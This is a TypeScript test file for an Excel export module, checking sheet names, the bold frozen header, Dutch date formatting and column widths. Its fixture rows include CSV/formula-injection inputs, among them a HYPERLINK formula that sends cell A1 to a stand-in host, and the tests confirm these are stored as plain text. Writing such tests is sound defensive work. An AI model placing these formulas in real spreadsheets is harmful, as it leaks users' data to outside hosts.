import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { csvDay } from "./csv";
import { sheetName, toXlsx, XLSX_DATE_FORMAT } from "./xlsx";

const HEADER = ["Aanname", "Waarde", "Peildatum", "Laatste wijziging op", "Toelichting"];
const LONG = "Een lange toelichting die breder is dan een kolom hoort te zijn. ".repeat(3).trim();
const ROWS = [
  ['=HYPERLINK("https://voorbeeld.example/?lek="&A1;"Klik hier")', 12.5, csvDay("2026-11-27"), null, "gewoon"],
  ["-3 in een tekst", -3, csvDay(null), new Date("2026-12-31T23:30:00Z"), "+31 6 12345678"],
  ["@SUM(A1)", 0.1 + 0.2, csvDay("geen dag"), new Date(Number.NaN), LONG],
  ["\t=1+1", Number.NaN, null, null, "twee\nregels"],
] as const;

/** Writes the workbook and reads it back the way a person's Excel would open it. */
async function roundTrip() {
  const bytes = await toXlsx({ title: "Aannames: register [2026]", header: HEADER, rows: ROWS.map((r) => [...r]) });
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
  const sheet = book.worksheets[0];
  if (!sheet) throw new Error("no sheet");
  return { book, sheet };
}

describe("an Excel download", () => {
  it("has one sheet named after the download, within Excel's rules for names", async () => {
    const { book, sheet } = await roundTrip();
    expect(book.worksheets).toHaveLength(1);
    expect(sheet.name).toBe("Aannames  register  2026");
    expect(sheetName("Indicatoren en metingen van een heel lang programma")).toHaveLength(31);
    expect(sheetName("???")).toBe("Gegevens");
  });

  it("has a bold header row a person can read, frozen, with a filter", async () => {
    const { sheet } = await roundTrip();
    const header = sheet.getRow(1);
    expect(HEADER.map((_, i) => header.getCell(i + 1).value)).toEqual(HEADER);
    for (let i = 1; i <= HEADER.length; i += 1) expect(header.getCell(i).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.autoFilter).toBe("A1:E1");
  });

  it("writes numbers as numbers, negative ones too, and nothing for a number that is none", async () => {
    const { sheet } = await roundTrip();
    expect([2, 3, 4, 5].map((r) => sheet.getCell(r, 2).value)).toEqual([12.5, -3, 0.1 + 0.2, null]);
    expect(sheet.getCell(3, 2).type).toBe(ExcelJS.ValueType.Number);
  });

  it("writes days and moments as dates with a Dutch date format, a moment as its day in Amsterdam", async () => {
    const { sheet } = await roundTrip();
    const day = sheet.getCell(2, 3);
    expect(day.type).toBe(ExcelJS.ValueType.Date);
    expect(day.value).toEqual(new Date("2026-11-27T00:00:00Z"));
    expect(day.numFmt).toBe(XLSX_DATE_FORMAT);
    // 23:30 UTC on 31 December is New Year's Day in Amsterdam.
    expect(sheet.getCell(3, 4).value).toEqual(new Date("2027-01-01T00:00:00Z"));
    expect(sheet.getCell(3, 4).numFmt).toBe(XLSX_DATE_FORMAT);
    expect(sheet.getCell(3, 3).value).toBeNull();
    // What is no day stays the text it is; an invalid moment is left empty.
    expect(sheet.getCell(4, 3).value).toBe("geen dag");
    expect(sheet.getCell(4, 4).value).toBeNull();
  });

  it("writes text as text, never as a formula, whatever it starts with, and without a ' in front", async () => {
    const { sheet } = await roundTrip();
    const texts = [2, 3, 4, 5].map((r) => sheet.getCell(r, 1));
    expect(texts.map((c) => c.value)).toEqual(ROWS.map((r) => r[0]));
    for (const cell of texts) expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getCell(3, 5).value).toBe("+31 6 12345678");
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula, cell.address).toBeUndefined();
      });
    });
  });

  it("makes columns as wide as their content, and wraps text of several lines or wider than a column may be", async () => {
    const { sheet } = await roundTrip();
    const width = (column: number) => sheet.getColumn(column).width ?? 0;
    expect(width(2)).toBeGreaterThanOrEqual(8);
    expect(width(3)).toBeGreaterThanOrEqual(12);
    expect(width(1)).toBeGreaterThan("Aanname".length);
    expect(width(5)).toBe(60);
    expect(sheet.getCell(4, 5).alignment?.wrapText).toBe(true);
    expect(sheet.getCell(5, 5).alignment?.wrapText).toBe(true);
    expect(sheet.getCell(2, 5).alignment?.wrapText).toBeFalsy();
  });

  it("writes an empty table as its header alone", async () => {
    const bytes = await toXlsx({ title: "Lessen", header: ["Les"], rows: [] });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
    expect(book.worksheets[0]?.rowCount).toBe(1);
    expect(book.worksheets[0]?.getCell("A1").value).toBe("Les");
  });
});
